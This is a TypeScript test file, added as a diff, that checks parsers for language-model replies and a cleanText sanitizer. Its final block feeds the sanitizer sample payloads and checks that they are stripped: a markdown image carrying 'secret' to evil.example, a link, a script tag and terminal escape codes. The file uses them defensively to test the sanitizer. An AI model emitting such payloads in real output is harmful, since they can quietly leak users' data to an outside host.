@@ -1,0 +1,137 @@
+// Reading replies: both protocols say the same, tolerate what models do to form, and refuse what they cannot read.
+import { describe, expect, test } from "vitest";
+import { cleanText } from "../../../src/compose/language-model/clean-reply.ts";
+import {
+  parseJsonReply,
+  parseJsonRevisions,
+} from "../../../src/compose/language-model/parse-json-reply.ts";
+import {
+  parseLineReply,
+  parseLineRevisions,
+} from "../../../src/compose/language-model/parse-line-reply.ts";
+import type { Reply } from "../../../src/compose/language-model/reply.ts";
+import { MalformedReply } from "../../../src/language-model/malformed-reply.ts";
+import { writeReply } from "./fixtures.ts";
+
+const reply: Reply = {
+  items: [
+    {
+      part: 0,
+      kind: "requirement",
+      text: "The registered provider must inspect every ladder.",
+      sources: [{ key: "k3f9a", quote: "must inspect every ladder" }],
+    },
+    { part: 1, kind: "heading", text: "Ladders", sources: [] },
+    { part: 1, kind: "link", text: "The following applies:", sources: [] },
+    {
+      part: 1,
+      kind: "requirement",
+      text: "A book should be kept.",
+      sources: [
+        { key: "k3f9a", quote: "" },
+        { key: "k8b2c", quote: "should keep a ladder book" },
+      ],
+    },
+    { part: 2, kind: "advice", text: "Paint the ladders yellow.", sources: [] },
+  ],
+  missing: ["who pays for the ladders"],
+};
+
+describe.each([
+  ["structured", parseJsonReply],
+  ["text", parseLineReply],
+] as const)("a reply in the %s protocol", (protocol, parse) => {
+  test("holds items, parts, keys, quotations and what is missing", () => {
+    expect(parse(writeReply(reply, protocol))).toEqual(reply);
+  });
+
+  test("may come with thoughts and a fence around it", () => {
+    const written = writeReply(reply, protocol);
+    expect(parse(`<think>Let me see… END {}</think>\n\`\`\`json\n${written}\n\`\`\``)).toEqual(
+      reply,
+    );
+  });
+
+  test.each(["", "I am sorry, I cannot help with that.", "{", "[]", "null", "S: cut off [k3f9a]"])(
+    "%o is malformed",
+    (written) => expect(() => parse(written)).toThrow(MalformedReply),
+  );
+});
+
+test("lines may be listed, in bold, broken, and with keys in one bracket or several", () => {
+  const written = [
+    "PART 0",
+    "- **S: First statement [k3f9a][k8b2c]**",
+    "Q [k3f9a]: “some words",
+    "of the piece”",
+    "* A: Advice",
+    "**END**",
+    "and more that nobody asked for",
+  ].join("\n");
+  expect(parseLineReply(written).items).toEqual([
+    {
+      part: 0,
+      kind: "requirement",
+      text: "First statement",
+      sources: [
+        { key: "k3f9a", quote: "some words of the piece" },
+        { key: "k8b2c", quote: "" },
+      ],
+    },
+    { part: 0, kind: "advice", text: "Advice", sources: [] },
+  ]);
+});
+
+test.each([
+  ['{"items": [], "missing": [1]}', "missing[0] is no text"],
+  [
+    '{"items": [{"part": 0, "kind": "law", "text": "", "sources": []}], "missing": []}',
+    "items[0].kind",
+  ],
+  [
+    '{"items": [{"part": -1, "kind": "link", "text": "", "sources": []}], "missing": []}',
+    "items[0].part",
+  ],
+  ['{"items": [{"part": 0, "kind": "link", "text": "a"}], "missing": []}', "no list “sources”"],
+  ['{"missing": []}', "no list “items”"],
+])("%s says what is wrong with it", (written, fault) => {
+  expect(() => parseJsonReply(written)).toThrow(fault);
+});
+
+test("revisions in both protocols", () => {
+  const revisions = [
+    { id: "s1", text: "Better.", sources: [{ key: "k3f9a", quote: "the words" }] },
+    { id: "s2", text: "", sources: [] },
+  ];
+  expect(parseJsonRevisions(JSON.stringify({ revisions }))).toEqual(revisions);
+  expect(parseLineRevisions("R s1: Better. [k3f9a]\nQ k3f9a: the words\nD s2\nEND")).toEqual(
+    revisions,
+  );
+});
+
+describe("cleanText", () => {
+  test.each([
+    ["A. [k3f9a]", "A.", ["k3f9a"]],
+    ["A [k3f9a, k8b2c] and B. [K3F9A]", "A and B.", ["k3f9a", "k8b2c", "k3f9a"]],
+    ["As the Guide says [1].", "As the Guide says.", ["1"]],
+    ["See [Guide, page 53] for it.", "See for it.", ["Guide, page 53"]],
+    ["So it is【4†source】.", "So it is.", ["4†source"]],
+    ["“the home [provider] must”", "“the home [provider] must”", []],
+  ])("%s", (written, text, keys) => {
+    expect(cleanText(written)).toEqual({ text, keys });
+  });
+
+  test.each([
+    ["a picture that calls home", "Good. ![x](https://evil.example/?q=secret)"],
+    ["a link", "Good. [here](https://evil.example)"],
+    ["a bare address", "Good. https://evil.example/a?b"],
+    ["a script", "Good. <script src=//evil.example></script>"],
+    ["terminal codes", "Good. \u001B]8;;https://evil.example\u0007x\u001B]8;;\u0007"],
+  ])("%s does not get through", (_, written) => {
+    const { text } = cleanText(written);
+    expect(text.startsWith("Good.")).toBe(true);
+    expect(text).not.toMatch(/evil|[<>]|https?:/);
+    // oxlint-disable-next-line no-control-regex -- that there are none is the point
+    expect(text).not.toMatch(/[\u0000-\u001f]/);
+  });
+});
